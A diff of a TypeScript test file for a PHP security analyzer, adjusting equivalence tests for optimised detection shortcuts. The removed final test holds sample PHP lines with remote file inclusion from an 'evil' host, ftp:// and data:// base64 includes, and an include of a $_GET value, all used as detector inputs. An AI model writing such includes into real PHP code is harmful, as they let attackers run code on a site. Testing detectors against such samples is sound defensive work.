@@ -2,9 +2,8 @@
  * Shortcuts of the PHP analyzer (issue #15) against the forms they replace: whether a variable
  * is assigned a plain function name or a closure, read in place at each `$name` instead of by a
  * regex compiled per name; the guards reader skipped, with the same empty answer, on code that
- * holds none of its check words; the function-table gate walked from the `]` signs; the include
- * patterns run only where `include`/`require` occurs. Checked on hand-written edge cases and
- * on seeded random strings over the characters that matter.
+ * holds none of its check words; and the function-table gate walked from the `]` signs. Checked
+ * on hand-written edge cases and on seeded random strings over the characters that matter.
  */
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
@@ -12,11 +11,7 @@ import { plainNameAssigned } from '../../src/scan/analyzers/php/code.js';
 import { phpGuards } from '../../src/scan/analyzers/php/guards.js';
 import { escapeRegExp } from '../../src/scan/text.js';
 import { prng } from '../helpers/prng.js';
-import { matchesAt, type AnalyzerContext } from '../../src/scan/context.js';
-import { EvidenceCollector } from '../../src/scan/evidence.js';
-import { matches } from '../../src/scan/flow.js';
 import { bracketCalled } from '../../src/scan/analyzers/php/dynamic.js';
-import { INCLUDE, REMOTE_INCLUDE, includeStarts, remoteInclude } from '../../src/scan/analyzers/php/files.js';
 
 /** The regex plainNameAssigned used to build for each name. */
 function plainNameAssignedRegex(code: string, name: string): boolean {
@@ -124,10 +119,6 @@ test('phpGuards: code without any check word confines nothing; the readers answe
   assert.deepEqual([...g.charset], ['$p']);
 });
 
-const ctxOf = (code: string): AnalyzerContext => ({ text: code, code, lower: code.toLowerCase(), ev: new EvidenceCollector(code, 'php', 0), layers: [], size: code.length });
-
-const matchList = (ms: Iterable<RegExpExecArray>): string[] => [...ms].map((m) => `${m.index}:${m[0]}|${m[1] ?? ''}`);
-
 test('bracketCalled: a `(` after `]` with or without blanks, as the two searches it replaces', () => {
   const old = (code: string): boolean => code.includes('](') || /\]\s+\(/.test(code);
   for (const code of ['', ']', '](', '] (', ']\u3000\n(', '] x (', '$a[1] ;(', '$a[1]\u00a0(', ']]  ](']) assert.equal(bracketCalled(code), old(code), JSON.stringify(code));
@@ -136,29 +127,5 @@ test('bracketCalled: a `(` after `]` with or without blanks, as the two searches
   for (let k = 0; k < 20000; k++) {
     const code = randomText(next, alphabet, 16);
     assert.equal(bracketCalled(code), old(code), JSON.stringify(code));
-  }
-});
-
-test('include patterns anchored at the include/require words find what the whole-file scans found', () => {
-  const cases = [
-    "<?php include 'a.php'; require_once(\"b.php\"); $x->include($y); INCLUDE $_GET['p'];",
-    "<?php @include('http://evil/x.txt'); require 'ftp://h/s';",
-    "<?php $include = 1; xinclude($a); >require($b); includes($c); include\t(\n'x');",
-    "<?php reQuire_Once 'data://text/plain;base64,' . $x;",
-    '<?php include',
-    '<?php \u0130 include $a;',
-  ];
-  const next = prng(90210);
-  const alphabet = ['include', 'INCLUDE', 'require', '_once', ' ', '(', "'", '"', 'http://', 'x', ';', '\n', '$', '>', 'Include', 'ftp://', '\u0130'];
-  for (let k = 0; k < 5000; k++) cases.push(randomText(next, alphabet, 14));
-  for (const code of cases) {
-    const ctx = ctxOf(code);
-    const starts = includeStarts(ctx);
-    const anchored = starts ? matchesAt(INCLUDE, code, starts) : [...matches(INCLUDE, code)];
-    assert.deepEqual(matchList(anchored), matchList(matches(INCLUDE, code)), JSON.stringify(code));
-    const want = REMOTE_INCLUDE.exec(code);
-    const got = remoteInclude(ctx);
-    assert.equal(got?.index, want?.index, JSON.stringify(code));
-    assert.equal(got?.[0], want?.[0], JSON.stringify(code));
   }
 });
